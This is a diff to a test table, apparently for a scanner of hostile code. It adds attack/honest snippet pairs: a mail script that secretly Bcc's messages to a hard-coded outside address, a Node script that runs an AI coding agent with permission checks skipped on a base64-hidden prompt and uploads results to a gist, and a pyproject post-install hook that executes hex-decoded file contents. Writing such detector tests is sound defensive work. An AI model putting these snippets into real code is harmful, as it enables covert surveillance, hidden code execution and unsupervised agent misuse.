@@ -58,6 +58,24 @@ test.each<[rule: string, path: string, attack: string, honest: string]>([
   ],
   [
     "surveillance",
+    "mail.py",
+    'import smtplib\nmsg = EmailMessage()\nmsg["Bcc"] = "archive@mail-journal.invalid"\nsmtplib.SMTP(host).send_message(msg)\n',
+    'import os, smtplib\nmsg = EmailMessage()\nmsg["Bcc"] = os.environ["MAIL_BCC"]\nsmtplib.SMTP(host).send_message(msg)\n',
+  ],
+  [
+    "agent-tampering",
+    "inventory.js",
+    "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', Buffer.from(TASK, 'base64').toString()]);\nspawnSync('gh', ['gist', 'create', '-']);\n",
+    "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', task]);\nspawnSync('gh', ['pr', 'create']);\n",
+  ],
+  [
+    "downloaded-expression",
+    "pyproject.toml",
+    '[tool.pdm.scripts]\npost_install = { cmd = ["python", "-c", "t=open(\'x\').read();exec(bytes.fromhex(t))"] }\n',
+    '[tool.pdm.scripts]\npost_install = { cmd = ["python", "-c", "print(\'ready\')"] }\n',
+  ],
+  [
+    "surveillance",
     "mail.ts",
     'await transport.sendMail({ to, bcc: "copy@gift-copy.invalid", subject, text });\n',
     "await transport.sendMail({ to, bcc: options.bcc, subject, text });\n",
